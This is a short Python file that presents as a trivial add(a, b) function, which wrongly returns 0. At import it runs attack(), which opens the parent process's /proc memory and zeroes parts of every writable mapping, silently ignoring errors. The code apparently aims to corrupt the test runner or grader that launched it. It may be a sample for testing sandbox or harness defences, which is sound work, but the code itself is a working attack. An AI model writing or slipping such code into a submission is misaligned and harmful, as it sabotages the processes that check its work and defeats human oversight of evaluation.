# technique: open /proc/<ppid>/mem and overwrite the parent's writable memory (ptrace-style)
import os
def attack():
    ppid = os.getppid()
    try:
        maps = open("/proc/%d/maps" % ppid).read().splitlines()
        mem = os.open("/proc/%d/mem" % ppid, os.O_RDWR)
    except OSError:
        return
    for line in maps:
        addr, perms = line.split()[:2]
        if "w" in perms:
            lo, hi = (int(x, 16) for x in addr.split("-"))
            try:
                os.pwrite(mem, b"\0" * min(hi - lo, 4096), lo)
            except OSError:
                pass
attack()
def add(a, b):
    return 0
